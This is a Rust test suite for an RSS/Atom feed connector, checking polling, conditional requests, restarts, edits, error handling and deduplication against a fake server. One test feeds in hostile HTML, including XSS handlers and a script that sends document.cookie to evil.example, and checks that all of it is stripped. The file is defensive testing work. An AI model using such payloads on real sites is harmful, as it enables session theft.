//! The feed source against [`super::fake::FakeFeeds`]: first read, 304, only new entries,
//! restarts, edits, hostile HTML, and every way a feed can break.

use super::fake::{FakeEntry, FakeFeeds, FeedFormat};
use super::{Feed, FeedConfig, FeedSource};
use crate::source::testing::{self, ids, MemorySink, WAIT};
use crate::source::{Amendment, ConnectorState};
use earshot_core::Network;
use std::sync::Arc;
use std::time::{Duration, Instant};

const SOURCE: &str = "rss:acme";

fn config(fake: &FakeFeeds, paths: &[(&str, &str)]) -> FeedConfig {
    let feeds = paths
        .iter()
        .map(|(path, label)| Feed::new(fake.url(path), *label))
        .collect();
    let mut config = FeedConfig::new("acme", feeds);
    config.poll_interval = Duration::from_millis(30);
    config.request_timeout = Duration::from_secs(2);
    // The §0.3 regimes at 1/100: 5 s becomes 50 ms.
    config.backoff_scale = 0.01;
    config
}

type Running = testing::Running<FeedSource>;

fn start(config: FeedConfig, sink: Arc<MemorySink>) -> Running {
    Running::start(Arc::new(FeedSource::new(config).unwrap()), sink)
}

fn minutes_ago(n: i64) -> Option<chrono::DateTime<chrono::Utc>> {
    Some(chrono::Utc::now() - chrono::Duration::minutes(n))
}

fn entry(id: &str, title: &str, html: &str, age_minutes: i64) -> FakeEntry {
    let mut e = FakeEntry::new(id, title, html);
    e.published = minutes_ago(age_minutes);
    e
}

/// Waits until `path` has had `n` more requests than `before`.
async fn more_requests(running: &Running, fake: &FakeFeeds, path: &str, n: usize) {
    let before = fake.requests_for(path).len();
    running
        .until("more requests", |_| {
            fake.requests_for(path).len() >= before + n
        })
        .await;
}

#[tokio::test]
async fn the_first_read_delivers_every_entry_with_its_fields() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/reviews.rss", FeedFormat::Rss, "Acme reviews");
    fake.add_feed("/forum.atom", FeedFormat::Atom, "Acme forum");
    fake.publish(
        "/reviews.rss",
        entry(
            "review-1",
            "Two stars",
            "<p>Kettle &amp; app <b>both</b> dead.</p>",
            30,
        ),
    );
    let mut no_guid = entry("", "No guid", "<p>plain</p>", 20);
    no_guid.id = None;
    no_guid.author = None;
    no_guid.link = "https://reviews.example/r/2".into();
    fake.publish("/reviews.rss", no_guid);
    fake.publish(
        "/forum.atom",
        entry(
            "tag:forum,2026:5120-3",
            "Charged twice",
            "<p>Invoice INV-2291.</p>",
            10,
        ),
    );
    let sink = Arc::new(MemorySink::default());
    let running = start(
        config(
            &fake,
            &[("/reviews.rss", "reviews"), ("/forum.atom", "forum")],
        ),
        sink.clone(),
    );
    let posts = sink.wait_for(3, WAIT).await;
    running.connected().await;

    let review = &posts[0];
    assert_eq!(review.network, Network::Rss);
    assert_eq!(review.external_id, "review-1");
    assert_eq!(review.text, "Two stars\n\nKettle & app both dead.");
    assert_eq!(review.author.handle, "Marta R.");
    assert_eq!(
        review.url.as_deref(),
        Some("https://forum.acme.example/t/review-1")
    );
    let age = chrono::Utc::now() - review.created_at;
    assert!(
        age > chrono::Duration::minutes(29) && age < chrono::Duration::minutes(31),
        "{age}"
    );
    // Oldest first; the entry without a guid keyed by a hash, authored by the feed's label.
    let hashed = &posts[1];
    assert!(
        hashed.external_id.starts_with("sha256:"),
        "{}",
        hashed.external_id
    );
    assert_eq!(hashed.author.handle, "reviews");
    let atom = &posts[2];
    assert_eq!(atom.external_id, "tag:forum,2026:5120-3");
    assert_eq!(atom.text, "Charged twice\n\nInvoice INV-2291.");
    assert!(sink.cursor_of(SOURCE).is_some());
    assert_eq!(running.health.report().events_total, 3);
    let first = &fake.requests_for("/reviews.rss")[0];
    assert_eq!(first.if_none_match, None);
    assert!(first
        .user_agent
        .as_deref()
        .is_some_and(|ua| ua.starts_with("earshot/")));
    running.stop().await;
}

#[tokio::test]
async fn an_unchanged_feed_is_answered_304_and_only_new_entries_follow() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.rss", FeedFormat::Rss, "f");
    fake.publish("/f.rss", entry("a", "A", "<p>a</p>", 5));
    let sink = Arc::new(MemorySink::default());
    let running = start(config(&fake, &[("/f.rss", "f")]), sink.clone());
    sink.wait_for(1, WAIT).await;
    more_requests(&running, &fake, "/f.rss", 3).await;
    let requests = fake.requests_for("/f.rss");
    let last = requests.last().unwrap();
    assert_eq!(last.status, 304);
    assert_eq!(last.if_none_match.as_deref(), Some("\"v2\""));
    assert!(last.if_modified_since.is_some());
    assert_eq!(sink.posts().len(), 1);

    fake.publish("/f.rss", entry("b", "B", "<p>b</p>", 1));
    let posts = sink.wait_for(2, WAIT).await;
    // A reordered feed holds nothing new.
    fake.reorder("/f.rss");
    more_requests(&running, &fake, "/f.rss", 3).await;
    assert_eq!(ids(&sink.posts()), vec!["a", "b"]);
    assert_eq!(ids(&posts), vec!["a", "b"]);
    running.stop().await;
}

#[tokio::test]
async fn a_restart_neither_loses_nor_doubles_entries() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.atom", FeedFormat::Atom, "f");
    fake.publish("/f.atom", entry("urn:1", "one", "<p>1</p>", 9));
    fake.publish("/f.atom", entry("urn:2", "two", "<p>2</p>", 8));
    let sink = Arc::new(MemorySink::default());
    let running = start(config(&fake, &[("/f.atom", "f")]), sink.clone());
    sink.wait_for(2, WAIT).await;
    running.stop().await;

    fake.publish("/f.atom", entry("urn:3", "three", "<p>3</p>", 3));
    fake.publish("/f.atom", entry("urn:4", "four", "<p>4</p>", 2));
    let running = start(config(&fake, &[("/f.atom", "f")]), sink.clone());
    sink.wait_for(4, WAIT).await;
    more_requests(&running, &fake, "/f.atom", 2).await;
    assert_eq!(ids(&sink.posts()), vec!["urn:1", "urn:2", "urn:3", "urn:4"]);
    // The restarted source asked conditionally, with what it stored before stopping.
    let after_restart: Vec<_> = fake
        .requests_for("/f.atom")
        .into_iter()
        .filter(|r| r.status == 200)
        .collect();
    assert!(after_restart.last().unwrap().if_none_match.is_some());
    running.stop().await;

    // Restarted on an unchanged feed: a 304, nothing delivered again.
    let running = start(config(&fake, &[("/f.atom", "f")]), sink.clone());
    more_requests(&running, &fake, "/f.atom", 2).await;
    assert_eq!(fake.requests_for("/f.atom").last().unwrap().status, 304);
    assert_eq!(sink.posts().len(), 4);
    running.stop().await;
}

#[tokio::test]
async fn a_changed_entry_becomes_an_edit_once() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.atom", FeedFormat::Atom, "f");
    fake.publish(
        "/f.atom",
        entry("urn:1", "Charged twice", "<p>Refund one please.</p>", 5),
    );
    let sink = Arc::new(MemorySink::default());
    let running = start(config(&fake, &[("/f.atom", "f")]), sink.clone());
    let posts = sink.wait_for(1, WAIT).await;
    fake.edit(
        "/f.atom",
        "urn:1",
        "<p>Refund one please. EDIT: refunded, thanks!</p>",
    );
    running
        .until("an amendment", |_| !sink.amendments().is_empty())
        .await;
    more_requests(&running, &fake, "/f.atom", 3).await;
    let amendments = sink.amendments();
    assert_eq!(amendments.len(), 1, "{amendments:?}");
    match &amendments[0] {
        Amendment::Edited(post) => {
            assert_eq!(post.external_id, "urn:1");
            assert_eq!(
                post.text,
                "Charged twice\n\nRefund one please. EDIT: refunded, thanks!"
            );
            assert_eq!(post.created_at, posts[0].created_at);
        }
        other => panic!("expected an edit, got {other:?}"),
    }
    assert_eq!(sink.posts().len(), 1);
    running.stop().await;
}

#[tokio::test]
async fn hostile_html_in_entries_is_stripped() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.rss", FeedFormat::Rss, "f");
    fake.publish(
        "/f.rss",
        entry(
            "x",
            "Nice <script>alert(1)</script>review",
            r#"<p onmouseover="alert(2)">Great<script>document.location='https://evil.example/?'+document.cookie</script><img src=x onerror=alert(3)> <a href="javascript:alert(4)">kettle</a><style>p{display:none}</style><iframe src="https://evil.example">frame</iframe></p>"#,
            1,
        ),
    );
    let sink = Arc::new(MemorySink::default());
    let running = start(config(&fake, &[("/f.rss", "f")]), sink.clone());
    let posts = sink.wait_for(1, WAIT).await;
    let text = &posts[0].text;
    assert_eq!(text, "Nice review\n\nGreat kettle");
    for bad in [
        "alert",
        "onerror",
        "javascript",
        "evil",
        "display",
        "frame",
        "<",
    ] {
        assert!(!text.contains(bad), "{bad} in {text:?}");
    }
    running.stop().await;
}

#[tokio::test]
async fn a_malformed_feed_is_reported_and_the_others_still_read() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/broken.rss", FeedFormat::Rss, "broken");
    fake.add_feed("/fine.rss", FeedFormat::Rss, "fine");
    fake.publish("/broken.rss", entry("later", "Later", "<p>l</p>", 1));
    fake.serve_raw(
        "/broken.rss",
        b"<rss version=\"2.0\"><channel><item><title>cut".to_vec(),
    );
    fake.publish("/fine.rss", entry("ok", "Ok", "<p>ok</p>", 1));
    let sink = Arc::new(MemorySink::default());
    let running = start(
        config(&fake, &[("/broken.rss", "broken"), ("/fine.rss", "fine")]),
        sink.clone(),
    );
    sink.wait_for(1, WAIT).await;
    running.state(ConnectorState::BackingOff).await;
    assert!(running.error().contains("broken"), "{}", running.error());
    assert!(
        running.error().contains("not a readable RSS or Atom feed"),
        "{}",
        running.error()
    );
    assert_eq!(ids(&sink.posts()), vec!["ok"]);
    fake.restore("/broken.rss");
    sink.wait_for(2, WAIT).await;
    running.connected().await;
    assert_eq!(ids(&sink.posts()), vec!["ok", "later"]);
    running.stop().await;
}

#[tokio::test]
async fn an_oversized_or_cut_feed_is_an_error_and_read_again_later() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.rss", FeedFormat::Rss, "f");
    fake.publish("/f.rss", entry("a", "A", "<p>a</p>", 1));
    fake.serve_raw("/f.rss", vec![b' '; 64 * 1024]);
    let mut config = config(&fake, &[("/f.rss", "f")]);
    config.max_body_bytes = 16 * 1024;
    let sink = Arc::new(MemorySink::default());
    let running = start(config, sink.clone());
    running.state(ConnectorState::BackingOff).await;
    assert!(
        running
            .error()
            .contains("larger than max_body_bytes (16384 bytes)"),
        "{}",
        running.error()
    );
    fake.restore("/f.rss");
    fake.cut_next("/f.rss");
    sink.wait_for(1, WAIT).await;
    assert!(fake.requests_for("/f.rss").len() >= 3);
    assert_eq!(ids(&sink.posts()), vec!["a"]);
    running.stop().await;
}

#[tokio::test]
async fn a_permanent_move_is_remembered_and_a_redirect_loop_is_an_error() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/new.rss", FeedFormat::Rss, "moved");
    fake.publish("/new.rss", entry("m", "Moved", "<p>m</p>", 1));
    fake.redirect("/old.rss", "/new.rss", true);
    fake.redirect("/a.rss", "/b.rss", false);
    fake.redirect("/b.rss", "/a.rss", false);
    let sink = Arc::new(MemorySink::default());
    let running = start(
        config(&fake, &[("/old.rss", "moved"), ("/a.rss", "looping")]),
        sink.clone(),
    );
    sink.wait_for(1, WAIT).await;
    running
        .until("the loop reported", |r| r.error().contains("redirect loop"))
        .await;
    assert!(running.error().contains("looping"), "{}", running.error());
    more_requests(&running, &fake, "/new.rss", 3).await;
    // After the 301, the feed is read where it lives now.
    assert_eq!(fake.requests_for("/old.rss").len(), 1);
    assert!(sink.cursor_of(SOURCE).unwrap().contains("/new.rss"));
    assert_eq!(ids(&sink.posts()), vec!["m"]);
    running.stop().await;
}

#[tokio::test]
async fn a_gone_feed_fails_the_source_and_is_not_read_again() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/gone.rss", FeedFormat::Rss, "old forum");
    fake.add_feed("/f.rss", FeedFormat::Rss, "f");
    fake.gone("/gone.rss");
    let sink = Arc::new(MemorySink::default());
    let running = start(
        config(&fake, &[("/gone.rss", "old forum"), ("/f.rss", "f")]),
        sink.clone(),
    );
    running.state(ConnectorState::Failing).await;
    let report = running.health.report();
    assert!(report
        .last_error
        .as_deref()
        .is_some_and(|e| e.contains("410") && e.contains("old forum")));
    assert_eq!(report.next_retry_at, None);
    // The other feed is still heard; the gone one is never asked again, even after a restart.
    fake.publish("/f.rss", entry("x", "X", "<p>x</p>", 1));
    sink.wait_for(1, WAIT).await;
    more_requests(&running, &fake, "/f.rss", 3).await;
    running.stop().await;
    let running = start(
        config(&fake, &[("/gone.rss", "old forum"), ("/f.rss", "f")]),
        sink.clone(),
    );
    running.state(ConnectorState::Failing).await;
    more_requests(&running, &fake, "/f.rss", 2).await;
    assert_eq!(fake.requests_for("/gone.rss").len(), 1);
    assert_eq!(running.health.report().state, ConnectorState::Failing);
    running.stop().await;
}

#[tokio::test]
async fn a_429_is_waited_out_and_a_503_burst_backed_off() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/limited.rss", FeedFormat::Rss, "limited");
    fake.add_feed("/flaky.rss", FeedFormat::Rss, "flaky");
    fake.publish("/limited.rss", entry("l", "L", "<p>l</p>", 2));
    fake.publish("/flaky.rss", entry("f", "F", "<p>f</p>", 1));
    fake.fail_next("/limited.rss", 1, 429, Some(1));
    fake.fail_next("/flaky.rss", 3, 503, None);
    let sink = Arc::new(MemorySink::default());
    let started = Instant::now();
    let running = start(
        config(
            &fake,
            &[("/limited.rss", "limited"), ("/flaky.rss", "flaky")],
        ),
        sink.clone(),
    );
    let posts = sink.wait_for(2, WAIT).await;
    // The 503s: 5, 10, 20 s at 1/100, less jitter; the 429: its Retry-After of one second.
    let flaky = fake.requests_for("/flaky.rss");
    assert_eq!(
        flaky.iter().take(4).map(|r| r.status).collect::<Vec<_>>(),
        vec![503, 503, 503, 200]
    );
    assert_eq!(fake.requests_for("/limited.rss")[0].status, 429);
    assert!(
        started.elapsed() >= Duration::from_millis(950),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(ids(&posts), vec!["f", "l"]);
    assert!(running.health.report().errors_total >= 4);
    running.connected().await;
    running.stop().await;
}

#[tokio::test]
async fn a_sink_failure_is_retried_not_fatal() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/f.rss", FeedFormat::Rss, "f");
    fake.publish("/f.rss", entry("a", "A", "<p>a</p>", 1));
    let sink = Arc::new(MemorySink::default());
    sink.fail_next(2);
    let running = start(config(&fake, &[("/f.rss", "f")]), sink.clone());
    sink.wait_for(1, WAIT).await;
    assert!(
        running.error().contains("could not store"),
        "{}",
        running.error()
    );
    assert_eq!(running.health.report().errors_total, 2);
    running.connected().await;
    more_requests(&running, &fake, "/f.rss", 2).await;
    assert_eq!(ids(&sink.posts()), vec!["a"]);
    // Each retry asked unconditionally: nothing was stored, so no validators were sent.
    let statuses: Vec<u16> = fake
        .requests_for("/f.rss")
        .iter()
        .take(4)
        .map(|r| r.status)
        .collect();
    assert_eq!(statuses, vec![200, 200, 200, 304]);
    running.stop().await;
}

#[tokio::test]
async fn the_same_entry_in_two_feeds_is_delivered_once() {
    let fake = FakeFeeds::start().await.unwrap();
    fake.add_feed("/billing.atom", FeedFormat::Atom, "billing");
    fake.add_feed("/all.atom", FeedFormat::Atom, "all");
    let shared = entry("urn:post-1", "Charged twice", "<p>x</p>", 3);
    fake.publish("/billing.atom", shared.clone());
    fake.publish("/all.atom", shared);
    fake.publish("/all.atom", entry("urn:post-2", "Other", "<p>y</p>", 1));
    let sink = Arc::new(MemorySink::default());
    let running = start(
        config(&fake, &[("/billing.atom", "billing"), ("/all.atom", "all")]),
        sink.clone(),
    );
    sink.wait_for(2, WAIT).await;
    more_requests(&running, &fake, "/all.atom", 3).await;
    assert_eq!(ids(&sink.posts()), vec!["urn:post-1", "urn:post-2"]);
    running.stop().await;
}
